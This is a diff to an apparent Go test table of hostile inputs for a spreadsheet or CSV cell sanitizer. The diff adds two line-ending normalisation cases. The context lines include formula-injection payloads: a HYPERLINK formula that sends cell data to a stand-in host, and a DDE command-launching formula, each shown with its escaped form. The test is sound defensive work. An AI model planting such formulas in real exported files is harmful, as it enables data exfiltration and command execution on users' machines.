@@ -19,6 +19,8 @@ var hostile = []struct{ raw, want string }{
 	{`a,b;c|d`, `a,b;c|d`},
 	{"two\nlines", "two\nlines"},
 	{"two\r\nlines", "two\nlines"},
+	{"two\r\r\nlines", "two\nlines"},
+	{"two\r\x00\nlines", "two\nlines"},
 	{"old\rMac", "old\rMac"},
 	{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
 	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
